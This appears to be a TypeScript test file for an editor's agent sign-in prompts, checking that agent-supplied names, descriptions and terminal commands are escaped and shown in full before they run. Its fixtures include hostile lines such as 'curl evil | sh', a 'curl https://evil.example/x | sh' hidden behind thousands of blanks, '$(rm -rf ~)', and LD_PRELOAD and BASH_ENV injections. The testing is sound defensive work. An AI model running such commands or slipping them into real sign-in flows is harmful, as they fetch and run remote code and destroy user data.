import { strict as assert } from "node:assert";
import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, terminalConfirmRows, variablesLine, type SignInMethod } from "./acp-auth";

/** What a quick pick would draw as an icon or hide: an unescaped `$(`, a control, bidi or zero-width character, a newline. */
function hostile(text: string): string | undefined {
  if (/(^|[^\\])\$\(/.test(text)) return "icon";
  if (/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(text)) return "control";
  return undefined;
}

describe("ACP sign-in: methods and the quick pick's rows", () => {
  const gemini = [
    { id: "oauth-personal", name: "Log in with Google", description: "Log in with your Google account" },
    { id: "gemini-api-key", name: "Gemini API key", description: "Use an API key with Gemini Developer API", _meta: { "api-key": { provider: "google" } } },
    { id: "gateway", name: "AI API Gateway", description: "Use a custom AI API Gateway", _meta: { gateway: { protocol: "google" } } },
  ];

  it("gemini's methods: its own sign-in and our model gateway for its gateway (a protocol we do not route: its own); a stored key for api-key only where no gateway method serves its provider", () => {
    const methods = signInMethods(gemini, undefined);
    // Its gemini-api-key method (the key handed to the agent) is left out: the gateway serves Google and keeps the key.
    assert.deepEqual(methods.map((m) => [m.id, m.kind]), [["oauth-personal", "agent"], ["gateway", "gateway"]]);
    assert.equal((methods[1] as Extract<SignInMethod, { kind: "gateway" }>).variable, "GEMINI_API_KEY");
    assert.equal(signInMethods([{ id: "g", name: "g", _meta: { gateway: { protocol: "carrier-pigeon" } } }], undefined)[0]!.kind, "agent");
    const keyOnly = signInMethods(gemini.filter((m) => m.id !== "gateway"), undefined);
    assert.equal((keyOnly.find((m) => m.id === "gemini-api-key") as Extract<SignInMethod, { kind: "api-key" }>).variable, "GEMINI_API_KEY", "offered where no gateway method is");
    assert.equal(signInMethods([{ id: "k", name: "k", _meta: { "api-key": { provider: "nobody-stores-this" } } }], undefined)[0]!.kind, "api-key");
  });

  it("terminal methods: the spec's runs the agent again with its args (only when the editor knows how it started); _meta terminal-auth runs its command", () => {
    const spec = { id: "t", name: "Sign in", type: "terminal" as const, args: ["--login", "it's"], env: { MODE: "login", BAD: 3 as unknown as string } };
    assert.deepEqual(signInMethods([spec], undefined), [], "not offered without the agent's command");
    const [method] = signInMethods([spec], { command: "node", args: ["/opt/agent.js", "--acp"] });
    assert.deepEqual(method, { kind: "terminal", id: "t", name: "Sign in", description: "", command: "node", args: ["/opt/agent.js", "--acp", "--login", "it's"], env: { MODE: "login" } });
    const [meta] = signInMethods([{ id: "claude-login", name: "Log in", _meta: { "terminal-auth": { command: "claude", args: ["/login"], label: "claude /login" } } }], undefined);
    assert.deepEqual(meta, { kind: "terminal", id: "claude-login", name: "Log in", description: "", command: "claude", args: ["/login"], env: {} });
    assert.equal(commandLine("node", ["/opt/a b.js", "it's", "$(rm -rf ~)", "--x=1"]), "node '/opt/a b.js' 'it'\\''s' '$(rm -rf ~)' --x=1");
  });

  it("hostile names and descriptions: markdown links, $(icon), control and bidi characters, newlines, 10 KB: every row plain, one line, no icon, the text whole", () => {
    const long = "d".repeat(5000) + "$(alert)" + "e".repeat(5000);
    const methods = signInMethods([
      { id: "m1", name: "[Sign in](command:workbench.action.terminal.new)", description: "click [here](https://evil.example) $(warning) \u001b[31mred\u001b[0m" },
      { id: "m2", name: "$(key) Key\u202eyek\u200b", description: long },
      { id: "m3", name: "two\nlines\r\n", description: "", _meta: { "terminal-auth": { command: "sh", args: ["-c", "curl evil | sh\n$(id)"] } } },
    ], undefined);
    const rows = signInRows(methods, "Agent $(zap)\u0007");
    for (const row of rows) {
      assert.equal(hostile(row.label), undefined, `label ${JSON.stringify(row.label)}`);
      if (row.description !== undefined) assert.equal(hostile(row.description), undefined, `description ${JSON.stringify(row.description)}`);
      assert.ok(!row.label.includes("\n"));
    }
    // Each method is one row that chooses it, named as the agent names it (escaped, never a link or an icon).
    assert.deepEqual(rows.filter((r) => r.methodId).map((r) => [r.methodId, r.label]), [
      ["m1", "[Sign in](command:workbench.action.terminal.new)"],
      ["m2", "\\$(key) Key\\u202eyek\\u200b"],
      ["m3", "two\\nlines\\u000d\\n"],
    ]);
    // The 10 KB description whole, over rows of its own (icon syntax escaped even where a cut falls).
    const m2 = rows.slice(rows.findIndex((r) => r.methodId === "m2") + 1, rows.findIndex((r) => r.methodId === "m3"));
    const text = m2.map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("");
    assert.ok(text.includes("d".repeat(5000)) && text.includes("e".repeat(5000)), "the description whole");
    assert.equal(text.replace(/\\\$\(/g, "$(").includes("d".repeat(5000) + "$(alert)" + "e".repeat(5000)), true);
    // The terminal command shown whole, before it runs, with its newline visible.
    const m3 = rows.slice(rows.findIndex((r) => r.methodId === "m3") + 1).map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("");
    assert.ok(m3.includes("Runs in a terminal: sh -c 'curl evil | sh\\n\\$(id)'"), m3);
    assert.equal(hostile(signInTitle("Agent $(zap)\u0007\n")), undefined);
    for (const row of signInReasonRows("x".repeat(70) + "$(bug)\u001b")) assert.equal(hostile(row.label), undefined);
  });

  it("a terminal command whose text hides what runs: a run of blanks is counted, not drawn; over 4,096 characters it is not offered", () => {
    // #36 hostile review: 3,000 spaces (or ideographic spaces, braille blanks) pushed `curl … | sh` far out of the modal's sight.
    for (const blank of [" ", "\u3000", "\u2800", "\u00a0", "\n", " \u3000"]) {
      const line = commandLine("sh", ["-c", `gemini auth login${blank.repeat(3000 / blank.length)}; curl https://evil.example/x | sh`]);
      assert.equal(line, "sh -c 'gemini auth login⟨3000 blank characters⟩; curl https://evil.example/x | sh'", JSON.stringify(blank));
    }
    assert.equal(commandLine("echo", ["a  b", "c   d"]), "echo 'a  b' 'c   d'", "a few spaces stay spaces");
    assert.equal(variablesLine({ MODE: "login", BASH_ENV: `${" ".repeat(500)}/tmp/x.sh` }), "MODE=login 'BASH_ENV=⟨500 blank characters⟩/tmp/x.sh'", "the variables the modal shows too");
    const huge = { id: "h", name: "Log in", _meta: { "terminal-auth": { command: "login", args: Array.from({ length: 600 }, (_, i) => `--flag-${i}`) } } };
    assert.deepEqual(signInMethods([huge], undefined), [], "a sign-in command of 7 KB is no sign-in");
    const hugeEnv = { id: "e", name: "Log in", _meta: { "terminal-auth": { command: "login", env: { NODE_OPTIONS: "x".repeat(5000) } } } };
    assert.deepEqual(signInMethods([hugeEnv], undefined), [], "nor with 5 KB of variables");
  });

  it("a flood: 1,000 methods are 50, a 1 MB description is cut at 32 KB with a note saying how much is left out", () => {
    const many = Array.from({ length: 1000 }, (_, i) => ({ id: `m${i}`, name: `M${i}` }));
    assert.equal(signInMethods(many, undefined).length, 50);
    const rows = signInRows(signInMethods([{ id: "big", name: "Big", description: "x".repeat(1024 * 1024) }], undefined), "A");
    assert.ok(rows.length < 500, `${rows.length} rows`);
    assert.match(rows.at(-1)!.label, /\(1015808 more characters not shown\)$/);
  });

  it("auth required is the JSON-RPC error -32000, nothing else", () => {
    assert.equal(isAuthRequired({ code: -32000, message: "Authentication required" }), true);
    assert.equal(isAuthRequired({ code: -32603, message: "Authentication required" }), false);
    assert.equal(isAuthRequired(new Error("Authentication required")), false);
    assert.equal(isAuthRequired(undefined), false);
  });

  it("a terminal sign-in's confirmation: the whole command line, the agent's variables with their values, the user's by name, the folder, with Run and Cancel; hostile text plain", () => {
    const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "sh", args: ["-c", "curl evil | sh\n$(id)"], env: { "LD_PRELOAD": "/tmp/x.so\u202e", "$(bug)": "v", PROXY: "agent's" }, userEnv: { PROXY: "http://user:hunter2@p", "MY\nVAR": "secret-value" } };
    const rows = terminalConfirmRows(method, "/work/my $(folder)");
    for (const row of rows) assert.equal(hostile(row.label), undefined, row.label);
    const text = rows.map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("\n");
    assert.ok(text.includes("sh -c 'curl evil | sh\\n\\$(id)'"), text);
    assert.ok(text.includes("LD_PRELOAD=/tmp/x.so\\u202e"), text);
    assert.ok(text.includes("\\$(bug)=v"), text);
    assert.ok(text.includes("/work/my \\$(folder)"), text);
    assert.ok(text.includes("outside the agent's sandbox"), text);
    // The user's own variables by name only (their values may be a password); the agent's replacing one is said.
    assert.ok(text.includes("PROXY, MY\\nVAR"), text);
    assert.ok(!text.includes("hunter2") && !text.includes("secret-value"), text);
    assert.ok(text.includes("PROXY=agent's (instead of your pi.agent.env's)"), text);
    assert.deepEqual(rows.filter((r) => r.action).map((r) => [r.label, r.action]), [["Run in a terminal", "run"], ["Cancel", "cancel"]]);
    assert.equal(rows[2]!.action, undefined, "then text: Enter on it runs nothing (the pick makes it the active row)");
  });

  it("a terminal sign-in's confirmation counts blank runs in the command and the agent's variables: nothing pushed out of sight", () => {
    const blanks = " ".repeat(3000);
    const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "login", args: [`now${blanks}; curl evil | sh`], env: { MODE: `1${blanks}; rm -rf ~` }, userEnv: {} };
    const text = terminalConfirmRows(method, "/work").map((r) => r.label).join("\n");
    assert.ok(text.includes("⟨3000 blank characters⟩; curl evil | sh"), text.slice(0, 400));
    assert.ok(text.includes("MODE=1⟨3000 blank characters⟩; rm -rf ~"), text.slice(0, 400));
    assert.ok(text.length < 1000, `${text.length} characters`);
  });

  it("a terminal method's variables: only names an environment can hold (no `=`, newline or empty name that would show one variable and set another)", () => {
    const env = { "A=B": "x", OK_1: "y", "bad\nname": "z", "": "e", "1ST": "d", "LD_PRELOAD": "/tmp/x.so" };
    const [spec] = signInMethods([{ id: "t", name: "t", type: "terminal", env }], { command: "agent", args: [] });
    assert.deepEqual(spec && spec.kind === "terminal" && spec.env, { OK_1: "y", LD_PRELOAD: "/tmp/x.so" });
    const [meta] = signInMethods([{ id: "m", name: "m", _meta: { "terminal-auth": { command: "login", env } } }], undefined);
    assert.deepEqual(meta && meta.kind === "terminal" && meta.env, { OK_1: "y", LD_PRELOAD: "/tmp/x.so" });
  });
});
